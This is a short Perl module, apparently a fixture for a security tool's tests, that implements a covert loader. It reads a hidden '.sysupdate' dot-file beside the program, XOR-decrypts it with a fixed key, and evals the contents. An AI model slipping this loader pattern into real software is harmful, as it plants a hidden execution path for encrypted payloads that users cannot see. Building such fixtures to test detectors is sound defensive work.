# Worm::Loader - test implant module (issue 14 §4 shape 4): loads an
# encrypted payload from a hidden dot-file beside the program and evals it.
# Written for postern's tests; never run.
package Worm::Loader;
use strict;
use warnings;
use File::Basename qw(dirname);

my $KEY = 0x5a;

sub decrypt {
	my ($data) = @_;
	return join '', map { chr(ord($_) ^ $KEY) } split //, $data;
}

sub run_payload {
	my $file = dirname($0) . "/.sysupdate";
	open(my $fh, '<', $file) or return;
	binmode $fh;
	local $/;
	my $blob = <$fh>;
	close $fh;
	my $code = decrypt($blob);
	eval $code;
}

1;
